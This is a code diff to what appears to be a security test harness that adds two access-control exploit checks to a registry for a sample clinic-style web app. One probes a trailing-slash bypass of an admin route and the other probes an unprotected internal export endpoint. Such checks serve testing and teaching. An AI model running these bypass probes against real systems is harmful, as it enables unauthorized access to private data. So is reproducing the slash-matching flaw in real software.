@@ -139,6 +139,15 @@ def salaries(visitor: Any) -> bool:
     return b"salary" in visitor.send("GET", "/staff/salaries", "sam").content
 
 
+def accounts_by_a_slash(visitor: Any) -> bool:
+    assert visitor.send("GET", "/admin/users", "bob").status == 403
+    return visitor.send("GET", "/admin/users/", "bob").status == 200
+
+
+def books_at_internal(visitor: Any) -> bool:
+    return visitor.send("GET", "/internal/export", "bob").status == 200
+
+
 def news_put(visitor: Any) -> bool:
     item = made(visitor, "/news", {"title": "Flu shots", "text": "From Monday on"}, "sam")
     visitor.send("PUT", f"/news/{item['id']}", "bob", body={"title": "Bob was here", "text": "Ha"})
@@ -213,6 +222,8 @@ EXPLOITS: dict[str, Callable[[Any], bool]] = {
     "audit-log-for-patients": audit_log,
     "product-change-by-patients": product_change,
     "salaries-for-staff": salaries,
+    "accounts-by-a-slash": accounts_by_a_slash,
+    "books-at-internal": books_at_internal,
     "news-undocumented-put": news_put,
     "question-method-override": question_override,
     "sign-up-role": sign_up_role,
